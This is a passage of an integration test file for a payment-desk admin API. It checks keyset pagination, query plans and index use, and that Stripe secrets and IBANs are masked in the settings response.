          listCursors[path] = secondPage.cursors
          for (const [query, field] of [
            ["after=not-a-cursor!", "after"],
            [`before=${Buffer.from("2026-02-30 00:00:00+00|pdref_bulk_000001").toString("base64url")}`, "before"],
            [`after=${first.cursors.last}`, "after"],
            [`after=${secondPage.cursors.last}&before=${secondPage.cursors.first}`, "after"],
            [`after=${secondPage.cursors.last}&page=last`, "after"],
            ["offset=20&page=last", "offset"],
            [`offset=20&after=${secondPage.cursors.last}`, "offset"],
          ]) {
            const bad = await failure(client.get(`/admin/payment-desk/${path}?${query}`, admin))
            expect(bad.status).toBe(400)
            expect(bad.data.message).toContain(`${field}:`)
          }
        }
        // Closed orders oldest first by keyset as well; sorted by amount or number they page by offset only.
        const oldestClosures = keysetList("closures", "closures")
        const oldestFirst = await oldestClosures("order=created_at")
        expect(oldestFirst.ids[0]).toBe("pdclo_bulk_000001")
        expect((await oldestClosures(`order=created_at&after=${oldestFirst.cursors.last}`)).ids).toEqual(
          (await oldestClosures("order=created_at&offset=20")).ids
        )
        expect((await oldestClosures("order=created_at&page=last")).ids).toEqual((await oldestClosures("")).ids.reverse())
        for (const query of ["order=refunded_amount&page=last", `order=-display_id&after=${listCursors.closures.last}`]) {
          const bad = await failure(client.get(`/admin/payment-desk/closures?${query}`, admin))
          expect(bad.status).toBe(400)
          expect(bad.data.message).toContain("page: sorted by refunded amount or order number, the list pages by offset only")
        }
        expect((await client.get("/admin/payment-desk/closures?limit=1&order=refunded_amount", admin)).data.cursors).toEqual({ first: null, last: null })

        // A keyset page reads its own rows through the list's index in the sort order: no sort, no scan of the table.
        for (const [url, index] of [
          [`/admin/payment-desk/refunds?limit=20&after=${listCursors.refunds.last}`, "IDX_payment_desk_refund_request_created_at_id"],
          ["/admin/payment-desk/refunds?limit=20&page=last", "IDX_payment_desk_refund_request_created_at_id"],
          [`/admin/payment-desk/closures?limit=20&after=${listCursors.closures.last}`, "IDX_payment_desk_order_closure_closed_at_id"],
          ["/admin/payment-desk/closures?limit=20&page=last", "IDX_payment_desk_order_closure_closed_at_id"],
        ]) {
          const run = await capturedSelects(knex, async () => {
            expect((await client.get(url, admin)).status).toBe(200)
          })
          const statement = run.find(({ sql }) => /order by "?(cl\.)?"?(created_at|closed_at)"? (asc|desc)/i.test(sql) && /limit/i.test(sql))
          expect({ url, page: !!statement, captured: statement ? [] : run.map(({ sql }) => sql.slice(0, 300)) }).toEqual({ url, page: true, captured: [] })
          // The page's own read is the plan's first Limit (the closures' 20 rows are then joined and put in order).
          const limitOf = (node: PlanNode): PlanNode | undefined =>
            node["Node Type"] === "Limit" ? node : (node.Plans ?? []).map(limitOf).find(Boolean)
          const page = limitOf(await explainPlan(knex, statement!))
          expect({ url, indexes: indexesOf(page!) }).toEqual({ url, indexes: expect.arrayContaining([index]) })
          expect({ url, nodes: nodeTypesOf(page!) }).toEqual({ url, nodes: expect.not.arrayContaining(["Seq Scan", "Sort", "Incremental Sort"]) })
        }

        const pages = [
          "/admin/payment-desk/audit?limit=20&page=last",
          `/admin/payment-desk/audit?limit=20&after=${second.cursors.last}`,
          "/admin/payment-desk/audit?limit=20",
          "/admin/payment-desk/audit?limit=20&action=payment_recorded",
          "/admin/payment-desk/audit?limit=20&q=ref-1999",
          "/admin/payment-desk/audit?limit=20&offset=20",
          "/admin/payment-desk/refunds?limit=20",
          "/admin/payment-desk/refunds?limit=20&status=failed",
          "/admin/payment-desk/refunds?limit=20&offset=11980",
          "/admin/payment-desk/refunds?limit=20&page=last",
          `/admin/payment-desk/refunds?limit=20&after=${listCursors.refunds.last}`,
          `/admin/payment-desk/refunds?limit=20&status=failed&after=${listCursors.refunds.last}`,
          "/admin/payment-desk/bank-transactions?limit=20",
          "/admin/payment-desk/bank-transactions?limit=20&status=review",
          "/admin/payment-desk/bank-transactions?limit=20&offset=11980",
          "/admin/payment-desk/bank-transactions?limit=20&page=last",
          `/admin/payment-desk/bank-transactions?limit=20&after=${secondLines.cursors.last}`,
          "/admin/payment-desk/closures?limit=20",
          "/admin/payment-desk/closures?limit=20&reason=payment_timeout",
          "/admin/payment-desk/closures?limit=20&offset=11980",
          "/admin/payment-desk/closures?limit=20&q=1042",
          "/admin/payment-desk/closures?limit=20&q=grace%40",
          "/admin/payment-desk/closures?limit=20&page=last",
          `/admin/payment-desk/closures?limit=20&after=${listCursors.closures.last}`,
          `/admin/payment-desk/closures?limit=20&reason=payment_timeout&after=${listCursors.closures.last}`,
          `/admin/payment-desk/closures?limit=20&q=grace%40&before=${listCursors.closures.first}`,
        ]
        // Every statement the routes run, captured from the shared connection, then explained with its bindings.
        const statements = await capturedSelects(knex, async () => {
          for (const url of pages) {
            const { status } = await client.get(url, admin)
            expect(status).toBe(200)
          }
        })
        // The search by the start of a reference finds its entries (REF-1999 and REF-19990 … REF-19999), spaces and case ignored.
        const found = (await audit("q=r%20ef-1999&limit=50")).audit_entries as Entry[]
        expect(found.map((entry) => entry.reference).sort()).toEqual(
          ["REF-1999", ...Array.from({ length: 10 }, (_, i) => `REF-1999${i}`)].sort()
        )

        // A sequential scan of a big table is allowed only where a Limit bounds it with nothing that
        // reads all its input in between: the capped count reads at most 10,001 rows so.
        const { scans: seqScans, explained } = await seqScansOfBigTables(
          knex,
          statements,
          /payment_desk_(audit_entry|refund_request|bank_transaction|order_closure)/,
          big
        )
        expect(explained).toBeGreaterThanOrEqual(pages.length)
        expect(seqScans).toEqual([])
      })

      it("pages refunds and closed orders by keyset through rows created in the same microsecond: none skipped, none repeated, filtered and searched", async () => {
        const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
        const [grace, ada] = await getContainer()
          .resolve(Modules.CUSTOMER)
          .createCustomers([
            { email: "grace@example.com", first_name: "Grace", last_name: "Hopper" },
            { email: "ada@example.com", first_name: "Ada", last_name: "Lovelace" },
          ])
        // 1,200 refunds and 1,200 closures within 300 microseconds (one millisecond: a cursor rounded to it
        // would lose the place), four to each microsecond; ids in another order than time (719 is prime to
        // 1,200), so ties are broken by id; two rows of each status, reason and customer per microsecond.
        await knex.raw(`
          insert into payment_desk_refund_request (id, order_id, payment_id, provider_id, amount, raw_amount, currency_code, idempotency_key, status, requested_by_type, requested_at, created_at)
          select 'pdref_tie_' || lpad(((i * 719) % 1200)::text, 4, '0'), 'order_tie_' || (i % 50), 'pay_tie_' || i, 'pp_manual_bank-transfer', 10,
                 jsonb_build_object('value', '10', 'precision', 20), 'eur', 'tie-' || i,
                 (array['succeeded', 'failed', 'awaiting_payout'])[1 + (i / 2) % 3], 'user', now(),
                 timestamptz '2026-06-01T00:00:00.000500Z' + ((i / 4) || ' microseconds')::interval
          from generate_series(0, 1199) as i`)
        await knex.raw(
          `insert into payment_desk_order_closure (id, order_id, actor_type, reason, refunded_amount, raw_refunded_amount, currency_code, source, customer_id, closed_at)
           select 'pdclo_tie_' || lpad(((i * 719) % 1200)::text, 4, '0'), 'order_tie_closed_' || i, 'system',
                  (array['payment_timeout', 'customer_request', 'out_of_stock'])[1 + (i / 2) % 3], 0, jsonb_build_object('value', '0', 'precision', 20),
                  'eur', 'payment_desk', case when (i / 2) % 2 = 0 then ? else ? end,
                  timestamptz '2026-06-01T00:00:00.000500Z' + ((i / 4) || ' microseconds')::interval
           from generate_series(0, 1199) as i`,
          [grace.id, ada.id]
        )
        const { rows: ties } = await knex.raw(
          `select count(*) as n from (select created_at from payment_desk_refund_request where id like 'pdref_tie_%' group by created_at having count(*) = 4) t`
        )
        expect(Number(ties[0].n)).toBe(300)

        const limit = 50
        const pageOf = async (path: string, rowsKey: string, query: string) => {
          const { data } = await client.get(`/admin/payment-desk/${path}?limit=${limit}&${query}`, admin)
          return { ids: (data[rowsKey] as Entry[]).map((row) => row.id as string), cursors: data.cursors as { first: string; last: string } }
        }
        // Every page of a list three ways: by offset, Next by `after` from the first page, Prev by `before` from
        // `page=last`; a page or two more than the rows fill at most (a cursor that loses its place goes round).
        const walk = async (path: string, rowsKey: string, query: string, rows: number) => {
          const most = Math.ceil(rows / limit) + 2
          const byOffset: string[][] = []
          for (let offset = 0; byOffset.length < most; offset += limit) {
            const { ids } = await pageOf(path, rowsKey, `${query}&offset=${offset}`)
            if (!ids.length) break
            byOffset.push(ids)
          }
          const byAfter: string[][] = []
          let page = await pageOf(path, rowsKey, query)
          for (; page.ids.length && byAfter.length < most; page = await pageOf(path, rowsKey, `${query}&after=${page.cursors.last}`)) {
            byAfter.push(page.ids)
          }
          const byBefore: string[][] = []
          page = await pageOf(path, rowsKey, `${query}&page=last`)
          for (; page.ids.length && byBefore.length < most; page = await pageOf(path, rowsKey, `${query}&before=${page.cursors.first}`)) {
            byBefore.unshift(page.ids)
          }
          return { byOffset, byAfter, byBefore }
        }
        const expectedIds = async (sql: string, bindings: string[] = []) => ((await knex.raw(sql, bindings)).rows as { id: string }[]).map((row) => row.id)

        for (const [path, rowsKey, query, sql, bindings] of [
          ["refunds", "refund_requests", "", `select id from payment_desk_refund_request order by created_at desc, id desc`, []],
          ["refunds", "refund_requests", "status=failed", `select id from payment_desk_refund_request where status = 'failed' order by created_at desc, id desc`, []],
          ["closures", "closures", "", `select id from payment_desk_order_closure order by closed_at desc, id desc`, []],
          ["closures", "closures", "q=grace", `select id from payment_desk_order_closure where customer_id = ? order by closed_at desc, id desc`, [grace.id]],
          [
            "closures",
            "closures",
            "order=created_at&reason=customer_request",
            `select id from payment_desk_order_closure where reason = 'customer_request' order by closed_at asc, id asc`,
            [],
          ],
        ] as const) {
          const expected = await expectedIds(sql, [...bindings])
          expect(expected.length).toBeGreaterThanOrEqual(400)
          const { byOffset, byAfter, byBefore } = await walk(path, rowsKey, query, expected.length)
          // Each page by keyset is the page by offset; all of them together are every row once, in the list's order.
          expect({ path, query, ids: byOffset.flat() }).toEqual({ path, query, ids: expected })
          expect({ path, query, pages: byAfter }).toEqual({ path, query, pages: byOffset })
          expect({ path, query, ids: byBefore.flat() }).toEqual({ path, query, ids: expected })
          // The last page holds the oldest `limit` rows (the one before it may overlap when the count is no multiple of it).
          expect(byBefore[byBefore.length - 1]).toEqual(expected.slice(-limit))
        }
      })
    })

    describe("settings", () => {
      it("shows the manual methods (IBAN masked), Stripe without its secrets, and the jobs with their last run", async () => {
        const before = (await client.get(`/admin/payment-desk/settings`, admin)).data.settings
        expect(before.jobs.map((job: Entry) => [job.name, job.last_run])).toEqual([
          ["payment-desk-close-unpaid-orders", null],
          ["payment-desk-reconcile-refunds", null],
          ["payment-desk-remind-unpaid-orders", null],
        ])
        expect(before.stripe).toEqual({
          configured: true,
          api_key_set: true,
          // The tests' key is a test-mode key, and their Stripe a double on loopback: said, not hidden.
          test_mode: true,
          api_host: stripe.url,
          webhook_secret_set: true,
          last_webhook_received_at: null,
          refunds_pending_reconciliation: 0,
        })

        await closeUnpaidOrdersJob(getContainer() as MedusaContainer)
        await reconcileRefundsJob(getContainer() as MedusaContainer)
        await desk().markWebhookEventHandled({ provider: "stripe", event_id: "evt_settings_1", type: "charge.refunded" })

        const response = await client.get(`/admin/payment-desk/settings`, admin)
        const body = JSON.stringify(response.data)
        expect(body).not.toContain(stripe.apiKey)
        expect(body).not.toContain(stripe.webhookSecret)
        expect(body).not.toContain("DE89370400440532013000")
        const settings = response.data.settings

        const bank = settings.manual_methods.find((m: Entry) => m.method === "bank-transfer")
        expect(bank).toMatchObject({
          provider_id: "pp_manual_bank-transfer",
          is_enabled: true,
          display_name: "Bank transfer",
          payment_window_hours: 48,
          currencies: ["eur", "usd"],
          reference_format: "rf",
          accounts: [
            {
              currency: "eur",
              account_holder: "Payment Desk Demo GmbH",
              iban_masked: "••••••••••••••••••3000",
              bic: "COBADEFFXXX",
              bank_name: null,
            },
          ],
        })
        expect(bank.instructions).toContain("{reference}")
        // What the customer of an example order reads: every placeholder filled, the IBAN masked as on the rest of the page.
        expect(bank.instructions_example).toContain(creditorReference(1042))
        expect(bank.instructions_example).toContain("110.00 EUR")
        expect(bank.instructions_example).toContain("••••••••••••••••••3000")
        expect(bank.instructions_example).not.toMatch(/\{[a-z_]+\}/)
        expect(settings.manual_methods.find((m: Entry) => m.method === "cash-on-delivery")).toMatchObject({
          payment_window_hours: null,
          accounts: [],
        })

        expect(settings.stripe.last_webhook_received_at).not.toBeNull()
        const [close, reconcile] = settings.jobs
        // The page lists the schedule that really runs: here the quiet interval
        // integration-tests/setup.js gives every HTTP spec (a store's default,
        // "*/15 * * * *" and "*/5 * * * *", is checked by the jobs' unit test).
        expect(close).toMatchObject({ schedule: { interval: 2147483647 }, enabled: true })
        expect(close.last_run.report).toMatchObject({ overdue: 0, closed: 0, flagged: 0, skipped: 0, failed: 0 })
        expect(new Date(close.last_run.finished_at).getTime()).toBeGreaterThanOrEqual(new Date(close.last_run.started_at).getTime())
        expect(reconcile).toMatchObject({ schedule: { interval: 2147483647 }, enabled: true })
        expect(reconcile.last_run.report).toMatchObject({ checked: 0, settled: 0, resent: 0, canceled: 0, retried: 0, failed: 0 })
      })
    })
  },
})
